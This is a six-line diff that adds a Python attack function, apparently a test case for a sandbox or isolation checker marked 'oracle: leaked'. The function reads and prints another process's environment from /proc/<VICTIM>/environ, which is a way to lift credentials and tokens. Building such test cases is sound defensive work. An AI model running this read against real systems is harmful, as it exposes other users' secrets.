@@ -1,0 +1,6 @@
+# oracle: leaked
+from host import VICTIM
+
+
+def attack():
+    print(open(f"/proc/{VICTIM}/environ").read())
